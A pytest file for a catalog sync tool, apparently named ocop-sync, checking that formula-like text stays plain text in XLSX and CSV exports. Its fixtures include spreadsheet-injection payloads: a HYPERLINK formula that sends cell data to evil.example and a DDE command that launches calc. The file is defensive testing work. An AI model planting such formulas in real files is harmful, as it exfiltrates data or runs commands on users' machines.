"""Text that starts like a formula (=, +, -, @) never becomes a formula in a file ocop-sync
writes: catalog exports (XLSX string cells; CSV quoted with the OWASP apostrophe, read back
unchanged) and bulk-upload feeds; `validate` warns about such cells."""

from __future__ import annotations

import json
import os
import subprocess
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from sync.catalog import Catalog
from sync.catalog_io import export_catalog, load_catalog
from sync.formula_text import escape_csv, looks_like_formula, unescape_csv
from tests.factories import make_product
from tests.workers.conftest import OCOP_SYNC

DESCRIPTION = '=HYPERLINK("http://evil.example/?d="&A1,"Xem chi tiết")'
TAGS = ["@SUM(1+1)", "-2+3+cmd|' /C calc'!A0", "+84 trà"]


def formula_catalog() -> Catalog:
    return Catalog(
        products=[
            make_product("BK-F1", description=DESCRIPTION, tags=TAGS),
            make_product("BK-F2", description="-", tags=["'=already quoted", "thường"]),
        ]
    )


def assert_no_formula(path: Path) -> list[str]:
    """Every text cell of the workbook; fails on any formula cell (openpyxl and raw XML)."""
    workbook = load_workbook(path)  # not data_only: a formula would come back as one
    texts = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    with zipfile.ZipFile(path) as package:
        for name in package.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in package.read(name) and b"<f " not in package.read(name)
    return texts


def test_catalog_xlsx_export_keeps_formula_like_text_as_text(tmp_path: Path) -> None:
    path = tmp_path / "catalog.xlsx"
    export_catalog(formula_catalog(), path)
    texts = assert_no_formula(path)
    assert DESCRIPTION in texts and "; ".join(TAGS) in texts
    assert load_catalog(path).catalog == formula_catalog()


def test_catalog_csv_export_escapes_per_owasp_and_reads_back_unchanged(tmp_path: Path) -> None:
    path = tmp_path / "catalog.csv"
    export_catalog(formula_catalog(), path)
    text = path.read_text(encoding="utf-8-sig")
    escaped = DESCRIPTION.replace('"', '""')
    assert f'"\'{escaped}"' in text  # quoted, apostrophe first, quotes doubled
    assert "\"'@SUM(1+1); -2+3+cmd|' /C calc'!A0; +84 trà\"" in text
    assert '"\'-"' in text
    assert "\"''=already quoted; thường\"" in text  # an apostrophe we would strip is kept
    for line in text.splitlines():
        for field in line.split('","'):
            assert not field.strip('"').startswith(("=", "+", "-", "@")), field
    loaded = load_catalog(path)
    assert loaded.errors == [] and loaded.catalog == formula_catalog()


@pytest.mark.parametrize(
    "text", ["=1+2", "+1", "-", "@x", "'x", "'=a", "''=a", "'''", "\t=1", "plain", "'"]
)
def test_csv_escape_round_trips(text: str) -> None:
    escaped = escape_csv(text)
    assert unescape_csv(escaped) == text
    assert not escaped.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_plain_numbers_are_not_formulas() -> None:
    assert not looks_like_formula("-5") and not looks_like_formula("+84 912 345 678")
    assert looks_like_formula("-2+3") and looks_like_formula("=A1") and looks_like_formula("@x")


def _run(tmp_path: Path, *args: str) -> subprocess.CompletedProcess[str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith("OCOP_SYNC_")}
    env["COLUMNS"] = "200"
    return subprocess.run(
        [OCOP_SYNC, *args], cwd=tmp_path, env=env, capture_output=True, text=True, timeout=120
    )


def test_export_feed_writes_no_formula_cell(tmp_path: Path) -> None:
    config = tmp_path / "ocop-sync.toml"
    config.write_text(
        '[[accounts]]\nname = "voso-backan"\nmarketplace = "voso"\n'
        'base_url = "https://partner.voso.example"\ndefault_category = "1001"\n',
        encoding="utf-8",
    )
    catalog = tmp_path / "catalog.xlsx"
    export_catalog(formula_catalog(), catalog)
    out = tmp_path / "voso.xlsx"
    result = _run(
        tmp_path, "export-feed", "-a", "voso-backan", "--catalog", str(catalog), "-o", str(out),
        "-c", str(config),
    )  # fmt: skip
    assert result.returncode == 0, result.stdout + result.stderr
    texts = assert_no_formula(out)
    assert any(text.startswith("=HYPERLINK") for text in texts)  # the description, as text


def test_validate_warns_about_formula_like_cells_and_still_passes(tmp_path: Path) -> None:
    path = tmp_path / "catalog.xlsx"
    export_catalog(formula_catalog(), path)
    result = _run(tmp_path, "validate", str(path), "--json")
    assert result.returncode == 0, result.stdout + result.stderr
    report = json.loads(result.stdout)
    assert report["errors"] == []
    formulas = [w for w in report["warnings"] if w["kind"] == "formula"]
    warned = {(w["row"], w["column"]) for w in formulas}
    # BK-F1's two variant rows (2, 3) repeat its description and tags; BK-F2's '-' is text
    # that a spreadsheet evaluates too.
    assert warned == {(2, "description"), (3, "description"), (2, "tags"), (3, "tags"),
                      (4, "description"), (5, "description")}  # fmt: skip
    assert all(w["file"] == str(path) and "formula" in w["message"] for w in formulas)
    assert report["counts"]["formula"] == len(formulas)
    shown = _run(tmp_path, "validate", str(path))
    assert f"warning: {path}:2:description: " in " ".join(shown.stdout.split())
    # Our own CSV export is escaped: nothing left to warn about.
    csv_path = tmp_path / "catalog.csv"
    export_catalog(formula_catalog(), csv_path)
    again = json.loads(_run(tmp_path, "validate", str(csv_path), "--json").stdout)
    assert [w for w in again["warnings"] if w["kind"] == "formula"] == []
